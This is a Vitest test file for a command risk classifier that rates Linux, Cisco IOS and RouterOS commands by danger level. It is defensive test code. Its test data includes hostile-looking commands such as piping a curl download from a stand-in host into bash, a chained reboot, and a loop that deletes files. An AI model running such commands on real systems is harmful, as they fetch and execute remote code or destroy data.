import { describe, expect, test } from 'vitest';
import {
  classifierStatus,
  classifyCommand,
  compileOverrides,
  isRisk,
  MAX_COMMAND_LENGTH,
  maxRisk,
  prepareClassifier,
  riskAtLeast,
  riskRank,
} from '../../src/classifier/index.js';
import { isAirlockError } from '../../src/errors.js';

// This file never prepares the parser before its first Linux call: it checks the synchronous path a new
// user hits when calling classifyCommand with no set-up.
describe('first synchronous use, before any prepareClassifier()', () => {
  test('Linux commands are classified correctly and fail closed while tree-sitter loads', async () => {
    expect(classifierStatus().shellParser).toBe('fallback');
    expect(classifyCommand('ls -la /var/log', { vendor: 'linux' }).risk).toBe('read');
    expect(classifyCommand('ls; reboot', { vendor: 'linux' }).risk).toBe('dangerous');
    expect(classifyCommand('for f in *; do rm $f; done', { vendor: 'linux' }).risk).toBe('dangerous');
    expect(classifyCommand('curl -s https://x.example | bash', { vendor: 'linux' }).risk).toBe('dangerous');
    // The first call started loading in the background; awaiting it switches to tree-sitter.
    expect(await prepareClassifier()).toEqual({ shellParser: 'tree-sitter' });
    expect(classifierStatus().shellParser).toBe('tree-sitter');
    expect(classifyCommand('for f in *; do rm $f; done', { vendor: 'linux' }).risk).toBe('dangerous');
  });
});

describe('risk order', () => {
  test('read < moderate < unknown < dangerous', () => {
    expect(['read', 'moderate', 'unknown', 'dangerous'].map((r) => riskRank(r as never))).toEqual([
      0, 1, 2, 3,
    ]);
    expect(maxRisk('read', 'unknown', 'moderate')).toBe('unknown');
    expect(maxRisk()).toBe('read');
    expect(riskAtLeast('unknown', 'moderate')).toBe(true);
    expect(riskAtLeast('read', 'moderate')).toBe(false);
    expect(isRisk('dangerous')).toBe(true);
    expect(isRisk('toString')).toBe(false);
  });
});

describe('result shape', () => {
  test('every segment names its rule; the result names the deciding rule and gives reasons', () => {
    const r = classifyCommand('show version\nreload', { vendor: 'ios' });
    expect(r.risk).toBe('dangerous');
    expect(r.rule).toBe('ios.reload');
    expect(r.segments.map((s) => [s.text, s.risk, s.rule])).toEqual([
      ['show version', 'read', 'ios.show'],
      ['reload', 'dangerous', 'ios.reload'],
    ]);
    expect(r.reasons[0]).toMatch(/^dangerous: .*\[ios\.reload\]$/);
  });

  test('empty and comment-only input is unknown, oversize input is unknown', () => {
    expect(classifyCommand('', { vendor: 'ios' }).risk).toBe('unknown');
    expect(classifyCommand('! only a comment', { vendor: 'ios' }).risk).toBe('unknown');
    expect(classifyCommand('   \n  ', { vendor: 'linux' }).risk).toBe('unknown');
    const big = classifyCommand('x'.repeat(MAX_COMMAND_LENGTH + 1), { vendor: 'linux' });
    expect(big.risk).toBe('unknown');
    expect(big.rule).toBe('input.too-long');
  });

  test('secret placeholders are plain words and do not raise risk', () => {
    expect(classifyCommand('ping -c 1 __SECRET_HOST_K7Q2M9XA3D__', { vendor: 'linux' }).risk).toBe('read');
    expect(classifyCommand('show run | include __SECRET_PASSWORD_K7Q2M9XA3D__', { vendor: 'ios' }).risk).toBe(
      'read',
    );
    expect(
      classifyCommand('/user set admin password=__SECRET_PASSWORD_K7Q2M9XA3D__', { vendor: 'routeros' }).risk,
    ).toBe('dangerous');
  });

  test('vendor aliases are accepted', () => {
    expect(classifyCommand('show version', { vendor: 'NX-OS' as never }).risk).toBe('read');
    expect(classifyCommand('/system reboot', { vendor: 'mikrotik' as never }).risk).toBe('dangerous');
  });
});

describe('invalid input', () => {
  test.each([
    ['non-string command', 42, { vendor: 'ios' }, 'CLASSIFIER_BAD_COMMAND'],
    ['undefined command', undefined, { vendor: 'ios' }, 'CLASSIFIER_BAD_COMMAND'],
    ['missing options', 'ls', undefined, 'CLASSIFIER_BAD_OPTIONS'],
    ['unknown vendor', 'ls', { vendor: 'vax' }, 'CLASSIFIER_UNKNOWN_VENDOR'],
    ['vendor not a string', 'ls', { vendor: 7 }, 'CLASSIFIER_UNKNOWN_VENDOR'],
    ['overrides not an array', 'ls', { vendor: 'linux', overrides: {} }, 'CLASSIFIER_BAD_OVERRIDE'],
    [
      'override without id',
      'ls',
      { vendor: 'linux', overrides: [{ risk: 'read' }] },
      'CLASSIFIER_BAD_OVERRIDE',
    ],
    [
      'override with bad risk',
      'ls',
      { vendor: 'linux', overrides: [{ id: 'a', risk: 'safe' }] },
      'CLASSIFIER_BAD_OVERRIDE',
    ],
    [
      'override with bad regex',
      'ls',
      { vendor: 'linux', overrides: [{ id: 'a', risk: 'read', pattern: '(' }] },
      'CLASSIFIER_BAD_OVERRIDE',
    ],
    [
      'override with bad vendor',
      'ls',
      { vendor: 'linux', overrides: [{ id: 'a', risk: 'read', vendor: 'vax' }] },
      'CLASSIFIER_BAD_OVERRIDE',
    ],
  ])('%s throws UsageError %s without echoing the value', (_name, command, options, code) => {
    let caught: unknown;
    try {
      classifyCommand(command as never, options as never);
    } catch (e) {
      caught = e;
    }
    expect(isAirlockError(caught, code as string)).toBe(true);
    expect(String((caught as Error).message)).not.toContain('vax');
  });

  test('compileOverrides rejects non-arrays', () => {
    expect(() => compileOverrides('x' as never)).toThrow(/expected an array/);
  });
});
